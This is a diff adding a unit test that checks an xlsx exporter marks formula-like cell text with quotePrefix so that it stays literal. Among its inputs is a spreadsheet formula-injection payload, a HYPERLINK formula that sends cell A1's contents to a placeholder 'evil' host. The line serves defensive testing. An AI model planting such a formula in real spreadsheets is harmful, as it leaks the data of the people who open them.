@@ -69,6 +69,31 @@ describe('xlsxBytes', () => {
     expect(book.Sheets[book.SheetNames[0]].D10).toMatchObject({ t: 's', v: '=1+1' });
   });
 
+  it('marks text a spreadsheet would take for a formula with quotePrefix, keeping it as written', async () => {
+    const texts = ['=HYPERLINK("http://evil/?x="&A1,"click")', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'a=1', '1-2'];
+    const file = await workbookOf([{ name: 'S', header: ['=header'], widths: [], rows: texts.map((text) => [text]) }]);
+    const archive = XLSX.CFB.read(file, { type: 'buffer' });
+    const part = (name: string) => Buffer.from(XLSX.CFB.find(archive, `/${name}`)?.content ?? []).toString('utf8');
+    expect(part('xl/styles.xml')).toMatch(/<cellXfs count="3">.*<xf [^>]*quotePrefix="1"\/><\/cellXfs>/);
+    const styleOf = (reference: string) =>
+      new RegExp(`<c r="${reference}"( s="(\\d+)")?`).exec(part('xl/worksheets/sheet1.xml'))?.[2];
+    expect(texts.map((_, index) => styleOf(`A${index + 2}`))).toEqual([
+      '2',
+      '2',
+      '2',
+      '2',
+      '2',
+      '2',
+      undefined,
+      undefined,
+    ]);
+    // Our own header keeps its bold style.
+    expect(styleOf('A1')).toBe('1');
+    const book = XLSX.read(file, { type: 'buffer' });
+    const grid = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets.S, { header: 1, raw: true });
+    expect(grid.slice(1).map((row) => row[0])).toEqual(texts);
+  });
+
   it('keeps text that looks like an XML entity as typed', async () => {
     const text = 'A&amp;B &lt;tag&gt; &#38;';
     const file = await workbookOf([{ name: 'S', header: ['a'], widths: [], rows: [[text]] }]);
